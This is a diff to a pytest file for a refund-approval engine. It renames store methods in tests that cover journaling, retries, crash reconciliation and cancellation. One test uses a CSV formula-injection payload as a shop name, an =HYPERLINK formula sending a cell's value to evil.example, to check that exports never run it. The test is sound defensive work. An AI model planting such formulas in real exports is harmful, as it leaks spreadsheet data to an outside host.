@@ -128,7 +128,7 @@ def store(app_home):
 
 @pytest.fixture
 def shop(store):
-    return store.add_shop(base_url="http://127.0.0.1:1", seller_id=1, name="测试店")
+    return store.shops.add(base_url="http://127.0.0.1:1", seller_id=1, name="测试店")
 
 
 def engine_for(platform, store, shop, **kw):
@@ -151,7 +151,7 @@ def test_each_action_is_journaled_and_committed_before_it_is_sent(store, shop):
     assert [r.outcome for r in report.results] == [Outcome.DONE] * 3
     assert [state for _, _, state in platform.actions] == ["sent"] * 3
     assert platform.actions[1][1] == {"refundId": 2, "refundAmount": 1002, "addressId": 6}
-    entries = store.journal_entries(shop.id)
+    entries = store.journal.entries(shop.id)
     assert [e.state for e in entries] == ["done"] * 3
     assert entries[0].params == {
         "method": "open.seller.order.refund.approve",
@@ -205,7 +205,7 @@ def test_refund_changed_is_read_again_and_reported_not_retried(store, shop):
     )
     assert second.outcome is Outcome.DONE
     assert [p["refundId"] for _, p, _ in platform.actions] == [1, 2]  # 1 not re-sent
-    assert store.journal_entries(shop.id)[0].state == "failed"
+    assert store.journal.entries(shop.id)[0].state == "failed"
     assert report.retryable_ids == [1]
 
 
@@ -224,7 +224,7 @@ def test_uncertain_delivery_is_judged_by_reading_the_refund(store, shop, landed,
     assert len([a for a in platform.actions if a[1]["refundId"] == 1]) == 1  # never re-sent
     assert progress[0] == (1, Outcome.UNKNOWN) and progress[-1] == (1, outcome)
     # an unchanged refund is no proof the request did not land: the seller decides, with evidence
-    assert store.journal_entries(shop.id)[0].state == ("done" if landed else "unknown")
+    assert store.journal.entries(shop.id)[0].state == ("done" if landed else "unknown")
     if not landed:
         message = report.results[0].message
         assert "no answer before the timeout" in message and "不会自动再次发送" in message
@@ -246,7 +246,7 @@ def test_uncertain_and_unreadable_stays_unknown_for_the_next_start(store, shop):
     platform.unreadable.add(1)
     report = engine.execute(plan)
     assert report.results[0].outcome is Outcome.UNKNOWN
-    assert [e.state for e in store.journal_open_entries(shop.id)] == ["unknown"]
+    assert [e.state for e in store.journal.open_entries(shop.id)] == ["unknown"]
     # next time: still unreadable → the refund is not planned again
     plan = engine.prepare([1], Approve())
     assert plan.actions == () and plan.skipped[0].refund_id == 1
@@ -257,7 +257,7 @@ def test_uncertain_and_unreadable_stays_unknown_for_the_next_start(store, shop):
     # the seller checked the seller backend and says it was not applied: planned again
     plan = engine.prepare([1], Approve(), release_uncertain=True)
     assert plan.reconciled[0].outcome is Outcome.NOT_APPLIED and len(plan.actions) == 1
-    entry = store.journal_entries(shop.id)[0]
+    entry = store.journal.entries(shop.id)[0]
     assert entry.state == "failed" and entry.result["decidedBy"] == "seller"
     assert entry.result["evidence"]["reads"] >= 1
 
@@ -287,7 +287,7 @@ def test_cancel_stops_before_the_next_send_and_reports_the_rest(store, shop):
     report = engine.execute(plan, cancelled=stop)
     assert [r.outcome for r in report.results] == [Outcome.DONE, Outcome.DONE] + [Outcome.CANCELLED] * 3
     assert len(platform.actions) == 2
-    assert store.journal_open_entries(shop.id) == []
+    assert store.journal.open_entries(shop.id) == []
     assert report.retryable_ids == [3, 4, 5]
 
 
@@ -312,7 +312,7 @@ def test_reconcile_after_a_crash(store, shop):
     with store.transaction():
         ids = engine._journal_plan(plan.actions, "crashed")
     for entry_id in ids[:3]:
-        store.journal_mark(entry_id, "sent")
+        store.journal.mark(entry_id, "sent")
     platform._apply("open.seller.order.refund.approve", 1)
     platform.refunds[3].update(status=70, updateTime=platform.refunds[3]["updateTime"] + 9)
     results = {r.refund_id: r for r in engine.reconcile()}
@@ -322,7 +322,7 @@ def test_reconcile_after_a_crash(store, shop):
     assert results[4].outcome is Outcome.CANCELLED  # planned, never sent
     assert all(r.reconciled for r in results.values())
     assert platform.actions == []  # nothing re-sent
-    assert [(e.refund_id, e.state) for e in store.journal_open_entries(shop.id)] == [(2, "unknown")]
+    assert [(e.refund_id, e.state) for e in store.journal.open_entries(shop.id)] == [(2, "unknown")]
 
 
 def test_reconcile_waits_for_the_settle_time(store, shop):
@@ -332,13 +332,13 @@ def test_reconcile_waits_for_the_settle_time(store, shop):
     plan = engine.prepare([1], Approve())
     with store.transaction():
         (entry_id,) = engine._journal_plan(plan.actions, "crashed")
-    store.journal_mark(entry_id, "sent")
-    entry = store.journal_open_entries(shop.id)[0]
+    store.journal.mark(entry_id, "sent")
+    entry = store.journal.open_entries(shop.id)[0]
     now[0] = entry.updated_at / 1000 + 29.9  # 0.1 s before the settle time
     stop = threading.Event()
     stop.set()  # the wait is cut short: the entry stays open
     assert engine.reconcile(cancelled=stop) == []
-    assert store.journal_open_entries(shop.id)[0].state == "sent"
+    assert store.journal.open_entries(shop.id)[0].state == "sent"
     now[0] += 0.2  # the settle time has passed
     assert engine.reconcile()[0].outcome is Outcome.UNKNOWN
 
@@ -369,7 +369,7 @@ def test_a_slow_platform_is_read_until_the_action_shows_and_never_sent_twice(sto
     assert report.results[0].outcome is Outcome.DONE
     assert len(platform.actions) == 1
     assert len(reads) >= 2 and reads[-1] - sent_at[0] >= 13  # read more than once, patiently
-    assert store.journal_entries(shop.id)[0].state == "done"
+    assert store.journal.entries(shop.id)[0].state == "done"
 
 
 def test_patience_spent_leaves_the_evidence_for_the_seller(store, shop):
@@ -381,7 +381,7 @@ def test_patience_spent_leaves_the_evidence_for_the_seller(store, shop):
     platform.script[1] = [TransportError("read timed out", maybe_processed=True)]
     result = engine.execute(plan).results[0]
     assert result.outcome is Outcome.UNKNOWN and len(platform.actions) == 1
-    entry = store.journal_entries(shop.id)[0]
+    entry = store.journal.entries(shop.id)[0]
     assert entry.state == "unknown" and entry.error == "read timed out"
     evidence = entry.result["evidence"]
     assert evidence["reads"] >= 3 and evidence["sendError"] == "read timed out"
@@ -460,7 +460,7 @@ def test_audit_log_ids_stay_whole_and_reject_details_read_as_words(store, shop, 
 def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, tmp_path):
     long_id = 2_100_000_012_345_678  # 16 digits: Excel would round it as a number
     hostile = '=HYPERLINK("https://evil.example/?x="&A1,"点此查看")'
-    shop = store.add_shop(base_url="http://127.0.0.1:1", seller_id=2, name=hostile)  # the platform's
+    shop = store.shops.add(base_url="http://127.0.0.1:1", seller_id=2, name=hostile)  # the platform's
     platform = FakePlatform(store, [R(long_id)])
     platform.script[long_id] = [BusinessRejected(hostile, result=21)]
     engine = engine_for(platform, store, shop)
@@ -526,7 +526,7 @@ def test_a_refund_that_moved_on_is_read_again_and_sent_once_more_when_still_vali
     sent = [p for _, p, _ in platform.actions]
     assert len(sent) == 2 and sent[0]["refundVersion"] == stale
     assert sent[1]["refundVersion"] == stale + 7  # the fresh version, read after the refusal
-    states = [(e.state, e.params["param"]["refundVersion"]) for e in store.journal_entries(shop.id)]
+    states = [(e.state, e.params["param"]["refundVersion"]) for e in store.journal.entries(shop.id)]
     assert sorted(states) == sorted([("failed", stale), ("done", stale + 7)])
     assert platform.actions[1][2] == "sent"  # the resend was journaled before it left
 
@@ -543,7 +543,7 @@ def test_a_refund_that_moves_on_twice_is_sent_at_most_once_more(store, shop):
     (result,) = report.results
     assert result.outcome is Outcome.CHANGED
     assert len(platform.actions) == 2  # the first send and one resend, never a third
-    assert [e.state for e in store.journal_entries(shop.id)] == ["failed", "failed"]
+    assert [e.state for e in store.journal.entries(shop.id)] == ["failed", "failed"]
 
 
 def test_a_moved_on_refund_is_not_resent_when_it_would_pay_more_than_previewed(store, shop):
